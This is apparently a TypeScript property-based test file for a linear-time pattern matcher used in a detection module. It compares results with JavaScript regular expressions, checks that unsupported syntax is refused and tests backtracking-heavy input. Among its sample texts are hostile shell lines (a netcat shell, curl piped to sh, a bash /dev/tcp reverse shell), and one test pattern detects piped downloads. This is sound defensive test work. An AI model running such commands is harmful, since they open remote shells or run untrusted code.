import fc from 'fast-check'
import { linearTest } from '../../shared/detections/pattern/linear-test.ts'
import { parsePattern } from '../../shared/detections/pattern/parse-pattern.ts'

const texts = fc.oneof(
  fc.string({
    unit: fc.constantFrom('a', 'b', 'B', '/', '|', ' ', '-', '.', '0', '_', '\n'),
    maxLength: 12,
  }),
  fc.constantFrom(
    'nc -e /bin/sh',
    'curl http://x | sh',
    'tar -cf - /etc',
    'bash -i >& /dev/tcp/1',
    '',
  ),
)

/** Sources of patterns out of the parts that are taken. */
const sources = fc.letrec<{ readonly node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    fc.constantFrom(
      'a',
      'b',
      '\\.',
      '.',
      '[ab]',
      '[^a/]',
      '[a-b0-9]',
      '\\w',
      '\\S',
      '\\d',
      '\\b',
      '^',
      '$',
      '/',
    ),
    fc.tuple(tie('node'), tie('node')).map(([a, b]) => a + b),
    fc.tuple(tie('node'), tie('node')).map(([a, b]) => `(${a}|${b})`),
    fc
      .tuple(tie('node'), fc.constantFrom('*', '+', '?', '{2}', '{1,3}', '{0,}', '*?'))
      .map(([a, q]) => `(?:${a})${q}`),
  ),
})).node

it('finds what a regular expression finds', () => {
  fc.assert(
    fc.property(sources, texts, (source, text) => {
      expect(linearTest(source)(text)).toBe(new RegExp(source, 'i').test(text))
    }),
    { numRuns: 1000 },
  )
})

it.each([
  '(?=a)',
  '(?!a)',
  '(?<=a)',
  '(?<n>a)',
  '(a)\\1',
  '\\k<n>',
  '\\p{L}',
  '\\u0041',
  '\\x41',
  'a**',
  '*a',
  '(a',
  'a)',
  '[a',
  'a\\',
  '[z-a]',
  'a{1000}',
  '(?i)a',
])('refuses %s, which it would not run in linear time or not as written', (source) => {
  expect(() => parsePattern(source)).toThrow(/only what runs in linear time is taken/)
})

it('takes no longer on a text that makes a back-tracking engine hang', () => {
  const hostile = linearTest('(a|a)*(a|aa)+(a*)*b|(x+x+)+y|(curl|wget)\\s+[^|;]*\\|\\s*sh')
  // A back-tracking engine needs longer than the universe has.
  expect(hostile(`${'a'.repeat(2000)}${'x'.repeat(2000)}${'curl '.repeat(1000)}`)).toBe(false)
})
